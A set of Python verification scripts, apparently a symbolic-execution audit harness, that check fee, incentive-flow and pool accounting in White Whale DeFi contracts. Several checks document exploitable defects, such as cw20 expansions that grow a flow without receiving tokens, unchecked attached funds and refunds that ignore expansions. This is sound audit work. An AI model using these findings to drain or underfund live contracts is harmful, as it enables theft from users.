        msg = it.mkv(C10.CX, 'UpdateConfig', take_rate=SOME(DEC(c.sym('new_rate', 128))),
                     **opts(it, [('owner', lambda: Str('mallory')), ('pool_router', lambda: Str('mallory')), ('fee_distributor', lambda: Str('mallory')), ('pool_factory', lambda: Str('mallory')), ('vault_factory', lambda: Str('mallory')), ('take_rate_dao_address', lambda: Str('mallory')), ('is_take_rate_active', lambda: c.symbool('new_active'))]))
        return enter(it, 'fee_collector', 'execute', mk_env(it, 10**18), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, upd, 'collector.update_config'):
        if p.ok:
            n += 1
            ck.oblige('C18.collector.UpdateConfig.valid', p, fld(prog, p.world.storage['config'], 'take_rate').fields[0] >= E18, 'take rate stays below 1')
        elif p.err: reject_no_write(ck, 'C18.collector.UpdateConfig.reject_no_write', p)
    ck.require(n >= 1, 'collector update: no Ok path')


def main():
    ck = Check('C18')
    pair(ck); trio(ck); vault(ck); distributor(ck); lair(ck); collector(ck)
    ck.bounds.update(parameters='every numeric parameter fully symbolic (18-decimal exact); in updates every other optional field independently present or absent (power set up to five fields, otherwise none / each alone / all)', denoms='token-factory rule decided over the denom shapes %s + cw20' % DENOM_SHAPES)
    ck.outside += ['factory-mediated updates: the factories only forward the message to the child, whose own obligation applies (forwarding shape is part of C19)',
                   'the epoch manager stores its epoch duration without any validator: no bound is documented for that contract, so none is claimed (observation)',
                   'trio amplification ramps: C04.ramp.* (C18.trio.ramp.valid is discharged there)']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
