"""C12 — incentive flows are fully funded and fully returned."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_inc import *

# (fee asset, flow asset) configurations
CFGS = {
    'nn_same': (('native', 'uwhale'), ('native', 'uwhale')),
    'nn_diff': (('native', 'uwhale'), ('native', 'ureward')),
    'nc': (('native', 'uwhale'), ('cw20', 'reward_token')),
    'cn': (('cw20', 'fee_token'), ('native', 'ureward')),
    'cc_same': (('cw20', 'reward_token'), ('cw20', 'reward_token')),
    'cc_diff': (('cw20', 'fee_token'), ('cw20', 'reward_token')),
}


def flow_world(it, fee, with_flow=None):
    c = it.ctx
    st = setup_inc(it, 'native', fee)
    w = it.world
    w.map('open_positions', []); w.map('closed_positions', []); w.map('address_weight', []); w.map('address_weight_snapshot', [])
    w.map('global_weight_snapshot', []); w.map('last_claimed_epoch', []); w.item('global_weight', U128(0))
    fc = c.sym('flow_counter', 32); w.item('flow_counter', fc)
    st['flow_counter'] = fc
    flows = []
    if with_flow is not None:
        kind, name, expanded, creator = with_flow
        fid = c.sym('fid', 32); start = c.sym('f_start', 32); end = c.sym('f_end', 32); amt = c.sym('f_amount', 128); claimed = c.sym('f_claimed', 128)
        c.assume(start <= end); c.assume(claimed <= amt); c.assume(amt < 2**120)
        hist = MapV('BTreeMap', [])
        st['expanded_total'] = amt
        if expanded:
            k1 = c.sym('h_epoch', 32); x1 = c.sym('h_amount', 128); e1 = c.sym('h_end', 32)
            c.assume(x1 >= amt); c.assume(x1 < 2**121); c.assume(e1 >= end); c.assume(k1 > start); c.assume(claimed <= x1)
            hist = MapV('BTreeMap', [[k1, Agg('tuple', [U128(x1), e1])]])
            st['expanded_total'] = x1; st['h'] = (k1, x1, e1)
        fl = it.mk(I + 'Flow', flow_id=fid, flow_label=NONE(), flow_creator=ADDR(creator), flow_asset=masset(it, kind, name, amt), claimed_amount=U128(claimed),
                   curve=it.mkv(I + 'Curve', 'Linear'), start_epoch=start, end_epoch=end, emitted_tokens=MapV('HashMap', []), asset_history=hist)
        flows.append(([start, fid], fl))
        st.update(fid=fid, f_start=start, f_end=end, f_amount=amt, f_claimed=claimed)
    w.map('flows', flows)
    return st


def open_step(ck, prog, cfg):
    fee, flow = CFGS[cfg]
    def body(it):
        c = it.ctx
        st = flow_world(it, fee)
        A = c.sym('declared', 128)
        funds = []; att = {}
        for kind, name in {fee, flow}:
            if kind == 'native':
                att[name] = c.sym('attached_' + name, 128); funds.append(COIN(name, att[name]))
            else:
                it.world.allow.append((Str(name), Str('creator'), Str(INC), c.sym('allowance_' + name, 128)))
        it.extra = dict(st=st, A=A, att=att)
        msg = it.mkv(IX, 'OpenFlow', start_epoch=SOME(c.sym('start', 64)), end_epoch=SOME(c.sym('end', 64)), curve=NONE(), flow_asset=masset(it, flow[0], flow[1], A), flow_label=NONE())
        return enter(it, 'incentive', 'execute', mk_env(it, 10**18), mk_info('creator', funds), msg)
    tag = 'open_flow.' + cfg
    n = 0
    for p in ck.explore(prog, body, tag):
        ck.sample(dict(entry='incentive.execute(open_flow)', fee_asset=fee, flow_asset=flow, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; att = p.extra['att']; fee_amt = st['fee_amt']
        eff = effects(resp_of(p), INC)
        fl = [v for parts, v in p.world.storage['flows'].entries]
        ck.oblige('C12.open.one_flow.' + cfg, p, len(fl) != 1, 'exactly one flow is stored')
        if len(fl) != 1: continue
        funded = fl[0].fields[3].fields[1].fields[0]
        # tokens of the flow asset the contract actually received in this step, net of what it sends on
        fk, fn = flow
        out_flow = total(eff, 'send', fn)                     # refunds / fee transfers in the flow asset leaving the contract
        if fk == 'native':
            recv = att.get(fn, 0) - out_flow
        else:
            recv = total(eff, 'pull', fn, lambda e: same(e.dst, INC)) - out_flow
        if cfg == 'nn_same':
            # carve-out: with fee denom == flow denom nothing ties the attached funds to the declared amount
            declared = p.extra['A']
            ck.oblige('C12.open.funded_eq_received.nn_same', p, funded != declared - fee_amt, 'the funded amount is the declared amount minus the creation fee')
            ck.oblige('C12.open.funded_eq_received.nn_same.unchecked_funds', p, z3.And(funded == declared - fee_amt, funded != recv),
                      'fee denom == flow denom: the declared flow amount is never compared with the funds attached (only the fee is)', site='open_flow same-denom funds check')
        else:
            ck.oblige('C12.open.funded_eq_received.' + cfg, p, funded != recv, 'the funded amount equals the tokens the contract received for the flow')
        # the fee reaches the collector
        kfee, nfee = fee
        if kfee == 'native': got = total(eff, 'send', nfee, lambda e: same(e.dst, COLLECTOR))
        else: got = total(eff, 'pull', nfee, lambda e: same(e.dst, COLLECTOR) and same(e.src, 'creator'))
        ck.oblige('C12.open.fee_to_collector.' + cfg, p, got != fee_amt, 'the creation fee, exactly, goes to the fee collector')
        strangers = [e for e in eff if not ((e.kind == 'send' and (same(e.dst, COLLECTOR) or same(e.dst, 'creator'))) or (e.kind == 'pull' and same(e.src, 'creator')))]
        ck.oblige('C12.open.no_strangers.' + cfg, p, len(strangers) != 0, 'only the collector (fee) and the creator (refund) are paid; only the creator is charged')
        ck.oblige('C12.open.fresh.' + cfg, p, z3.Or(fl[0].fields[4].fields[0] != 0, fl[0].fields[0] != st['flow_counter'] + 1, not same(sname(fl[0].fields[2]), 'creator')),
                  'a new flow starts with nothing claimed, a fresh id, and the sender as creator')
    ck.require(n >= 1, tag + ': no Ok path')


def expand_step(ck, prog, kind, expanded=False):
    name = {'native': 'ureward', 'cw20': 'reward_token'}[kind]
    def body(it):
        c = it.ctx
        st = flow_world(it, ('native', 'uwhale'), with_flow=(kind, name, expanded, 'creator'))
        if expanded: c.assume(st['h'][0] <= st['cur'] + 1)          # Inv: expansions are recorded for the next epoch at the latest
        X = c.sym('expand_by', 128); c.assume(X < 2**120)
        funds = []
        if kind == 'native': funds = [COIN(name, c.sym('attached', 128))]
        else: it.world.allow.append((Str(name), Str('anyone'), Str(INC), c.sym('allowance', 128)))
        it.extra = dict(st=st, X=X)
        msg = it.mkv(IX, 'ExpandFlow', flow_identifier=it.mkv(I + 'FlowIdentifier', 'Id', st['fid']), end_epoch=NONE(), flow_asset=masset(it, kind, name, X))
        return enter(it, 'incentive', 'execute', mk_env(it, 10**18), mk_info('anyone', funds), msg)
    tag = 'expand_flow.' + kind[0] + ('.expanded' if expanded else '')
    n = 0
    for p in ck.explore(prog, body, tag):
        ck.sample(dict(entry='incentive.execute(expand_flow)', flow_asset=kind, expanded_before=expanded, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; X = p.extra['X']
        eff = effects(resp_of(p), INC)
        fl = [v for parts, v in p.world.storage['flows'].entries]
        if len(fl) != 1:
            ck.oblige('C12.expand.kept.' + tag, p, True, 'the flow is still stored'); continue
        hist = fl[0].fields[9].pairs
        new_total = hist[-1][1].fields[0].fields[0] if hist else fl[0].fields[3].fields[1].fields[0]
        reset = (st['h'][2] if expanded else st['f_end']) - st['f_start'] > 180          # FLOW_EXPANSION_LIMIT on the flow's current (expanded) end epoch: the flow is re-based ("flow reset")
        keep = z3.Not(reset)
        funded_before = st['expanded_total']
        grew = new_total - funded_before
        if expanded:
            ck.oblige('C12.expand.reset.' + tag, p, z3.And(reset, new_total != (funded_before - st['f_claimed']) + X), 're-based total = funded (latest expansion entry, whichever epoch it is recorded for) - claimed + expansion')
            ck.oblige('C12.expand.reset.fresh.' + tag, p, z3.And(reset, z3.Or(len(hist) != 1, fl[0].fields[4].fields[0] != 0)), 'a re-based flow starts with a single history entry and nothing claimed')
        else:
            rebased = z3.If(X >= st['f_claimed'], X - st['f_claimed'], 0) + X        # exactly the known behaviour
            ck.oblige('C12.expand.reset.' + tag, p, z3.And(reset, new_total != rebased, new_total != (st['f_amount'] - st['f_claimed']) + X), 're-based total = original - claimed + expansion')
            ck.oblige('C12.expand.reset.accounting.' + tag, p, z3.And(reset, new_total == rebased, new_total != (st['f_amount'] - st['f_claimed']) + X),
                      'a flow longer than 180 epochs is re-based on expansion; with no earlier expansion the re-based amount is taken from the expanding asset instead of the flow\'s own amount',
                      site='expand_flow reset default')
        if kind == 'native':
            recv = z3.Int('attached')
            ck.oblige('C12.expand.funded_eq_received.n' + ('.expanded' if expanded else ''), p, z3.And(grew != recv, keep), 'expansion grows the funded amount by exactly the attached funds')
        else:
            recv = total(eff, 'pull', name, lambda e: same(e.dst, INC))
            ck.oblige('C12.expand.funded_eq_received.c' + ('.expanded' if expanded else ''), p, z3.And(keep, grew != recv, z3.Not(z3.And(recv == 0, grew == X))), 'expansion grows the funded amount by exactly what was pulled')
            ck.oblige('C12.expand.funded_eq_received.c.no_transfer', p, z3.And(keep, recv == 0, grew == X, X != 0),
                      'cw20 expansion: the TransferFrom is built but never added to the response, so the flow grows without receiving tokens', site='expand_flow cw20 TransferFrom dropped')
        ck.oblige('C12.expand.amount.' + tag, p, z3.And(grew != X, keep), 'the recorded total grows by the stated amount')
        ck.oblige('C12.expand.claimed_kept.' + tag, p, z3.And(fl[0].fields[4].fields[0] != st['f_claimed'], keep), 'claimed amount untouched by an expansion')
    ck.require(n >= 1, tag + ': no Ok path')


def close_step(ck, prog, kind, expanded):
    name = {'native': 'ureward', 'cw20': 'reward_token'}[kind]
    def body(it):
        c = it.ctx
        st = flow_world(it, ('native', 'uwhale'), with_flow=(kind, name, expanded, 'creator'))
        sender = Str(None, sym=c.sym('closer'))
        it.extra = dict(st=st)
        msg = it.mkv(IX, 'CloseFlow', flow_identifier=it.mkv(I + 'FlowIdentifier', 'Id', st['fid']))
        return enter(it, 'incentive', 'execute', mk_env(it, 10**18), mk_info(ADDR(sender), []), msg)
    tag = 'close_flow.%s.%s' % (kind[0], 'expanded' if expanded else 'plain')
    n = 0
    for p in ck.explore(prog, body, tag):
        ck.sample(dict(entry='incentive.execute(close_flow)', flow_asset=kind, expanded=expanded, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']
        eff = effects(resp_of(p), INC)
        closer = z3.Int('closer')
        ck.oblige('C12.close.auth.' + tag, p, z3.And(closer != Str('creator').ident(), closer != Str('factory_owner').ident()), 'only the creator or the factory owner can close a flow')
        refund = total(eff, 'send', name, lambda e: same(e.dst, 'creator'))
        others = [e for e in eff if not (e.kind == 'send' and same(e.asset, name) and same(e.dst, 'creator'))]
        ck.oblige('C12.close.recipient.' + tag, p, len(others) != 0, 'the refund goes to the flow creator only')
        funded = st['expanded_total']
        owed = z3.If(funded >= st['f_claimed'], funded - st['f_claimed'], 0)
        if expanded:
            base = z3.If(st['f_amount'] >= st['f_claimed'], st['f_amount'] - st['f_claimed'], 0)
            known = z3.And(refund == base, refund != owed)          # exactly the behaviour of the defect: the expansion is ignored
            ck.oblige('C12.close.refund.expanded.ignores_expansion', p, known,
                      'close refunds flow_asset.amount - claimed, ignoring expansions recorded in asset_history', site='close_flow ignores asset_history')
            ck.oblige('C12.close.refund.' + tag, p, z3.And(z3.Not(known), refund != owed), 'closing returns exactly funded (latest expansion total) minus claimed')
        else:
            ck.oblige('C12.close.refund.' + tag, p, refund != owed, 'closing returns exactly funded minus claimed')
        ck.oblige('C12.close.removed.' + tag, p, len(p.world.storage['flows'].entries) != 0, 'the flow is removed')
        sends = [e for e in eff if e.kind == 'send']
        ck.oblige('C12.close.no_empty_transfer.' + tag, p, z3.Or(*[zint(e.amount) == 0 for e in sends]) if sends else False,
                  'a close never emits a transfer of zero tokens (the bank module and cw20 reject empty transfers, so the whole close would fail and a fully claimed flow could never be removed)',
                  site='close_flow zero refund')
    ck.require(n >= 1, tag + ': no Ok path')


def main():
    ck = Check('C12')
    prog = ck.program('incentive', 'white_whale_std')
    for cfg in CFGS: open_step(ck, prog, cfg)
    for kind in ('native', 'cw20'):
        expand_step(ck, prog, kind); expand_step(ck, prog, kind, True)
        close_step(ck, prog, kind, False); close_step(ck, prog, kind, True)
    try:
        import c12_claim
        c12_claim.run(ck)
    except ImportError:
        ck.outside.append('claim guard (claimed <= funded) is checked in C13.claim obligations')
    ck.bounds.update(flows='one existing flow with 0..1 expansion entries; six fee-asset x flow-asset configurations', widths='amounts below 2^120, epochs u32-range symbolic')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
