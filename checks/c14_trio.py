"""C14 part: three-asset pool — the Simulation query and the executed swap agree, in all six directions.  The Newton kernels are
uninterpreted functions of their inputs (equal inputs -> equal outputs), so the obligation is exactly 'both entry points feed the kernel the
same reserves / amounts and post-process its result identically'.  A counterexample is confirmed by running both real entry points on
concrete inputs and comparing their real outputs."""
import z3
from lib_trio import *

TQ = TM + 'QueryMsg'


def real_attr(real, key):
    for a in real.get('response', {}).get('attributes', []):
        if a['key'] == key: return a['value']
    return None


def native_differs(reals, scs):
    """real query(Simulation) vs real execute(Swap): some quoted amount differs from what the swap reports / does."""
    q, x = reals[0]['result'], reals[1]['result']
    if q.get('outcome') != 'ok' or x.get('outcome') != 'ok': return False
    d = (q.get('response') or {}).get('data') or {}
    return any(str(d.get(k)) != str(real_attr(x, k)) for k in ('return_amount', 'spread_amount', 'swap_fee_amount', 'protocol_fee_amount', 'burn_fee_amount'))


def trio_sim_vs_exec(ck, prog, kinds, oi, ai):
    def body(it):
        c = it.ctx
        st = setup_trio(it, kinds)
        off = c.sym('offer', 128)
        trio_inv(c, st)
        env = mk_env(it, 10**18, height=c.sym('height', 64))
        q = enter(it, T3, 'query', env, None, it.mkv(TQ, 'Simulation', offer_asset=tasset(it, kinds[oi], oi, off), ask_asset=tasset(it, kinds[ai], ai, 0)))
        if q.variant != 'Ok': raise PathPruned()
        sim = q.fields[0].fields[0].payload
        w = it.world
        c.assume(st['b'][oi] + off < 2**128)
        if kinds[oi] == 'native': w.bank = [(a, d, x + off if same(d, tname(kinds, oi)) else x) for a, d, x in w.bank]
        else: w.cw20 = [(t, h, x + off if same(t, tname(kinds, oi)) else x) for t, h, x in w.cw20]
        ms = SOME(DEC(5 * 10**17))
        if kinds[oi] == 'native':
            msg = it.mkv(TXM, 'Swap', offer_asset=tasset(it, kinds[oi], oi, off), ask_asset=tinfo(it, kinds[ai], ai), belief_price=NONE(), max_spread=ms, to=SOME(Str('recv')))
            inf = mk_info('trader', [COIN(tname(kinds, oi), off)])
        else:
            hook = it.mkv(TM + 'Cw20HookMsg', 'Swap', ask_asset=tinfo(it, kinds[ai], ai), belief_price=NONE(), max_spread=ms, to=SOME(Str('recv')))
            msg = it.mkv(TXM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('trader'), amount=U128(off), msg=BIN(hook)))
            inf = mk_info(tname(kinds, oi), [])
        it.extra = dict(st=st, sim=sim, offer=off)
        return enter(it, T3, 'execute', env, inf, msg)
    tag = 'trio.%s.o%d.a%d' % (''.join(k[0] for k in kinds), oi, ai)
    n = 0
    for p in ck.explore(prog, body, tag, stubs=KERNEL_STUBS, validate=False):
        ck.sample(dict(diff='trio query(Simulation) vs execute(Swap)', offer_index=oi, ask_index=ai, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; sim = p.extra['sim']
        g = lambda name: [x for x, f in zip(sim.fields, prog.adts[sim.name]['variants'][0]['fields']) if f[0] == name][0].fields[0]
        eff = effects(resp_of(p), TRIO); A = tname(kinds, ai)
        nf = tledger_after(p, 'collected_protocol_fees')
        # candidate inputs for native confirmation: a realistic pool
        nice = [z3.Int('b%d' % i) >= 10**9 for i in range(3)] + [z3.Int('b%d' % i) <= 10**11 for i in range(3)] + [z3.Int('f%d' % i) <= 10**6 for i in range(3)] + \
               [z3.Int('offer') >= 10**7, z3.Int('offer') <= 10**9, z3.Int('b0') != z3.Int('b1'), z3.Int('b1') != z3.Int('b2'), z3.Int('b0') != z3.Int('b2'),
                z3.Int('initial_amp') == 10, z3.Int('future_amp') == 1000, z3.Int('initial_amp_block') == 1000, z3.Int('future_amp_block') == 21000, z3.Int('height') == 5000,      # 20% into a ramp: a quote and an execution that do not use the same amplification differ here
                z3.Int('fee_protocol') == 10**15, z3.Int('fee_swap') == 2 * 10**15, z3.Int('fee_burn') == 10**15, z3.Int('S') == 10**10]
        kw = dict(native_pred=native_differs, nice=nice)
        ck.oblige('C14.trio.sim_eq_exec.return.' + tag, p, total(eff, 'send', A) != g('return_amount'), 'the transfer equals the quoted return', **kw)
        ck.oblige('C14.trio.sim_eq_exec.protocol.' + tag, p, nf[ai] - st['f'][ai] != g('protocol_fee_amount'), 'the recorded protocol fee equals the quoted one', **kw)
        ck.oblige('C14.trio.sim_eq_exec.burn.' + tag, p, total(eff, 'burn', A) != g('burn_fee_amount'), 'the burned amount equals the quoted burn fee', **kw)
    ck.require(n >= 1, tag + ': no Ok path through quote + execution')


def run(ck):
    prog = ck.program('stableswap_3pool', 'white_whale_std')
    kinds = ('native', 'native', 'cw20')
    for oi, ai in [(0, 1), (0, 2), (1, 0), (1, 2), (2, 0), (2, 1)]: trio_sim_vs_exec(ck, prog, kinds, oi, ai)
    ck.bounds['trio'] = 'three-asset pool native/native/cw20, six directions; compute_d / compute_y_raw are uninterpreted functions (their internals: C04 shell obligations)'
    ck.stubs.add('StableSwap::compute_d / compute_y_raw -> uninterpreted functions D3 / Y3 of their arguments (C14 trio part)')
