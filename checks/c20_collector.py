"""C20, collector leg: forward_fees keeps the distributor's epoch, the aggregation reply echoes id and start time unchanged."""
import c10


def run(ck):
    prog = ck.program('fee_collector', 'white_whale_std')
    c10.forward(ck, prog)
    c10.reply(ck, prog)
