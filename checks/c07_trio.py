"""C07 part: three-asset pool fee ledgers (swap in all six directions, collect, other operations) and the shape every pool / vault
instantiate gives its fee ledgers (one zero entry per pool asset, in pool order) — the representation invariant the per-step obligations assume."""
import z3
from lib_trio import *
import lib_pool as LPO
import lib_vault as LV

MINCOLL = 1000
SCN = 'stableswap_3pool::helpers::SwapComputation'


def stub_cs(it, a, c):
    x = it.ctx
    return OK(it.mk(SCN, return_amount=U128(x.sym('sc_ret', 120)), spread_amount=U128(x.sym('sc_spread', 120)), swap_fee_amount=U128(x.sym('sc_swap', 120)),
                    protocol_fee_amount=U128(x.sym('sc_prot', 120)), burn_fee_amount=U128(x.sym('sc_burn', 120))))


def ledger_shape_bad(ledger, want_names):
    """violation: the ledger is not [Asset{info_i, 0}] for the pool's assets in order."""
    items = ledger.items if isinstance(ledger, VecV) else None
    if items is None or len(items) != len(want_names): return True
    bad = []
    for a, nm in zip(items, want_names):
        inf = a.fields[0]
        if not same(inf.fields[0], nm): return True
        bad.append(zint(a.fields[1].fields[0]) != 0)
    return z3.Or(*bad)


def instantiate_shapes(ck):
    prog = ck.program('stableswap_3pool', 'white_whale_std')
    for kinds in (('native', 'native', 'cw20'), ('cw20', 'native', 'native')):
        def inst(it, kinds=kinds):
            c = it.ctx; it.world.contract = TRIO
            for i, k in enumerate(kinds):
                if k == 'cw20': it.world.cw20_info[TNAMES['cw20'][i]] = dict(total_supply=c.sym('sup%d' % i, 128), decimals=6)
            pf = it.mk(TM + 'PoolFee', protocol_fee=tfee(it, c.sym('fp', 128)), swap_fee=tfee(it, c.sym('fs', 128)), burn_fee=tfee(it, c.sym('fb', 128)))
            msg = it.mk(TM + 'InstantiateMsg', asset_infos=Agg('array', [tinfo(it, kinds[i], i) for i in range(3)]), token_code_id=5, asset_decimals=Agg('array', [6, 6, 6]),
                        pool_fees=pf, fee_collector_addr=Str('collector'), amp_factor=c.sym('amp', 64), token_factory_lp=False)
            return enter(it, T3, 'instantiate', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info('factory', []), msg)
        n = 0; tag = ''.join(k[0] for k in kinds)
        for p in ck.explore(prog, inst, 'trio.instantiate.' + tag):
            if not p.ok: continue
            n += 1
            names = [tname(kinds, i) for i in range(3)]
            for ns in ('collected_protocol_fees', 'all_time_collected_protocol_fees', 'all_time_burned_fees'):
                ck.oblige('C07.trio.instantiate.%s.%s' % (ns, tag), p, ledger_shape_bad(p.world.storage.get(ns), names), 'the ledger starts as one zero entry per pool asset, in pool order')
        ck.require(n >= 1, 'trio instantiate %s: no Ok path' % tag)
    progp = ck.program('terraswap_pair', 'white_whale_std')
    for kinds in (('native', 'cw20'), ('cw20', 'native')):
        def instp(it, kinds=kinds):
            c = it.ctx; it.world.contract = LPO.PAIR
            for i, k in enumerate(kinds):
                if k == 'cw20': it.world.cw20_info[LPO.NAMES['cw20'][i]] = dict(total_supply=c.sym('sup%d' % i, 128), decimals=6)
            pf = it.mk(PN + 'pair::PoolFee', protocol_fee=LPO.fee(it, c.sym('fp', 128)), swap_fee=LPO.fee(it, c.sym('fs', 128)), burn_fee=LPO.fee(it, c.sym('fb', 128)))
            msg = it.mk(PN + 'pair::InstantiateMsg', asset_infos=Agg('array', [LPO.info(it, kinds[0], 0), LPO.info(it, kinds[1], 1)]), token_code_id=5, asset_decimals=Agg('array', [6, 6]),
                        pool_fees=pf, fee_collector_addr=Str('collector'), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'), token_factory_lp=False)
            return enter(it, 'terraswap_pair', 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
        n = 0; tag = ''.join(k[0] for k in kinds)
        for p in ck.explore(progp, instp, 'pair.instantiate.' + tag):
            if not p.ok: continue
            n += 1
            names = [LPO.aname(kinds, i) for i in range(2)]
            for ns in ('collected_protocol_fees', 'all_time_collected_protocol_fees', 'all_time_burned_fees'):
                ck.oblige('C07.pair.instantiate.%s.%s' % (ns, tag), p, ledger_shape_bad(p.world.storage.get(ns), names), 'the ledger starts as one zero entry per pool asset, in pool order')
        ck.require(n >= 1, 'pair instantiate %s: no Ok path' % tag)
    progv = ck.program('vault', 'white_whale_std')
    for kind in ('native', 'cw20'):
        def instv(it, kind=kind):
            c = it.ctx; it.world.contract = LV.VAULT
            nm = LV.ASSET_NAME[kind]
            if kind == 'cw20': it.world.cw20_info[nm] = dict(total_supply=c.sym('sup', 128), decimals=6)
            ai = it.mkv(AI, 'NativeToken', denom=Str(nm)) if kind == 'native' else it.mkv(AI, 'Token', contract_addr=Str(nm))
            vf = it.mk('white_whale_std::fee::VaultFee', protocol_fee=LV.vfee(it, c.sym('vp', 128)), flash_loan_fee=LV.vfee(it, c.sym('vl', 128)), burn_fee=LV.vfee(it, c.sym('vb', 128)))
            msg = it.mk(LV.VN + 'InstantiateMsg', owner=Str('owner'), asset_info=ai, token_id=5, vault_fees=vf, fee_collector_addr=Str('collector'), token_factory_lp=False)
            return enter(it, 'vault', 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
        n = 0
        for p in ck.explore(progv, instv, 'vault.instantiate.' + kind[0]):
            if not p.ok: continue
            n += 1
            for ns in ('collected_protocol_fees', 'all_time_collected_protocol_fees', 'all_time_burned_fees'):
                a = p.world.storage.get(ns)
                bad = True if a is None else (True if not same(a.fields[0].fields[0], LV.ASSET_NAME[kind]) else zint(a.fields[1].fields[0]) != 0)
                ck.oblige('C07.vault.instantiate.%s.%s' % (ns, kind[0]), p, bad, 'the vault ledger starts at zero for the vault asset')
            ck.oblige('C07.vault.instantiate.loan_counter.' + kind[0], p, not ('loan_counter' in p.world.storage and same_int(p.world.storage['loan_counter'], 0)), 'no loan in progress initially')
        ck.require(n >= 1, 'vault instantiate %s: no Ok path' % kind)


def same_int(v, k):
    v = deref(v)
    return (not is_sym(v)) and v == k


def trio_swap(ck, prog, kinds, oi, ai):
    ui = 3 - oi - ai
    tag = 'swap.%s.o%d.a%d' % (''.join(k[0] for k in kinds), oi, ai)
    n = 0
    prot, burn, ret = z3.Int('sc_prot'), z3.Int('sc_burn'), z3.Int('sc_ret')
    for p in ck.explore(prog, tswap_body(kinds, oi, ai), 'trio.' + tag, stubs={'stableswap_3pool::helpers::compute_swap': stub_cs}, validate=False):
        if not p.ok: continue
        n += 1
        st = p.extra['st']; f, at, ab = st['f'], st['at'], st['ab']
        eff = effects(resp_of(p), TRIO); A = tname(kinds, ai)
        nf = tledger_after(p, 'collected_protocol_fees'); nat = tledger_after(p, 'all_time_collected_protocol_fees'); nab = tledger_after(p, 'all_time_burned_fees')
        import c07 as C07
        nice = [z3.Int('b%d' % i) == 10 ** 12 + (10 ** 9 if i == oi else 0) for i in range(3)] + [z3.Int('f%d' % i) == 10 ** 6 for i in range(3)] + \
               [z3.Int('offer') == 10 ** 9, z3.Int('fee_protocol') == 10 ** 15, z3.Int('fee_swap') == 2 * 10 ** 15, z3.Int('fee_burn') == 10 ** 15, z3.Int('max_spread') == 5 * 10 ** 17, z3.Int('S') == 3 * 10 ** 12,
                z3.Int('initial_amp') == 100, z3.Int('future_amp') == 100, z3.Int('initial_amp_block') == 1, z3.Int('future_amp_block') == 2, z3.Int('height') == 12345] + \
               [z3.Int('%s%d' % (n_, i)) == 7 * 10 ** 6 for n_ in ('at', 'ab') for i in range(3)]
        kw = dict(native_pred=C07.ledger_moves_inconsistent, nice=nice)
        ck.oblige('C07.trio.swap.ledger.' + tag, p, z3.Or(nf[ai] != f[ai] + prot, nf[oi] != f[oi], nf[ui] != f[ui]), 'pending ledger += protocol fee on the ask asset only', **kw)
        ck.oblige('C07.trio.swap.alltime.' + tag, p, z3.Or(nat[ai] != at[ai] + prot, nat[oi] != at[oi], nat[ui] != at[ui], nab[ai] != ab[ai] + burn, nab[oi] != ab[oi], nab[ui] != ab[ui]),
                  'all-time collected / burned counters grow by exactly the charge / burn, on the ask asset only', **kw)
        ck.oblige('C07.trio.swap.burn.' + tag, p, z3.Or(total(eff, 'burn', A) != burn, total(eff, 'send', A) != ret, any(not same(e.asset, A) or e.kind not in ('send', 'burn') for e in eff)),
                  'one transfer of the net return, one burn of exactly the burn fee, both of the ask asset; nothing else moves', **kw)
    ck.require(n >= 1, 'trio %s: no Ok path' % tag)


def trio_collect(ck, prog, kinds):
    tag = ''.join(k[0] for k in kinds)
    n = 0
    for p in ck.explore(prog, tcollect_body(kinds), 'trio.collect.' + tag):
        ck.sample(dict(entry='trio.execute(collect_protocol_fees)', kinds=tag, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; f = st['f']
        eff = effects(resp_of(p), TRIO); nf = tledger_after(p, 'collected_protocol_fees')
        ck.oblige('C07.trio.collect.recipient.' + tag, p, any(not (e.kind == 'send' and same(e.dst, 'collector')) for e in eff), 'collect transfers to the configured collector and to no one else')
        for i in range(3):
            sent = total(eff, 'send', tname(kinds, i))
            small = z3.And(f[i] > 0, f[i] <= MINCOLL)
            dropped = z3.And(small, nf[i] == 0, sent == 0)
            ck.oblige('C07.trio.collect.identity.subthreshold.%s.a%d' % (tag, i), p, dropped, 'sub-threshold pending fees are dropped from the ledger without reaching the collector', site='sub-threshold collect')
            ck.oblige('C07.trio.collect.identity.%s.a%d' % (tag, i), p, z3.And(z3.Not(dropped), f[i] - nf[i] != sent), 'ledger decrease equals the amount transferred to the collector')
            ck.oblige('C07.trio.collect.exact.%s.a%d' % (tag, i), p, z3.And(z3.Not(small), z3.Or(sent != f[i], nf[i] != 0)), 'collect transfers exactly the pending amount')
        nat = tledger_after(p, 'all_time_collected_protocol_fees'); nab = tledger_after(p, 'all_time_burned_fees')
        ck.oblige('C07.trio.collect.alltime.' + tag, p, z3.Or(*[nat[i] != st['at'][i] for i in range(3)], *[nab[i] != st['ab'][i] for i in range(3)]), 'collecting does not touch the all-time counters')
    ck.require(n >= 1, 'trio collect: no Ok path')


def trio_other(ck, prog, kinds):
    tag = ''.join(k[0] for k in kinds)
    for name, body in (('provide', tprovide_body(kinds)), ('withdraw', twithdraw_body(kinds))):
        for p in ck.explore(prog, body, 'trio.%s.%s' % (name, tag), stubs=KERNEL_STUBS, validate=False):
            if not p.ok: continue
            st = p.extra['st']
            bad = z3.Or(*[a != b for ns, key in (('collected_protocol_fees', 'f'), ('all_time_collected_protocol_fees', 'at'), ('all_time_burned_fees', 'ab')) for a, b in zip(tledger_after(p, ns), st[key])])
            ck.oblige('C07.trio.%s.ledgers_untouched.%s' % (name, tag), p, bad, 'deposits and withdrawals leave the fee ledgers alone')


def run(ck):
    instantiate_shapes(ck)
    prog = ck.program('stableswap_3pool', 'white_whale_std')
    kinds = ('native', 'native', 'cw20')
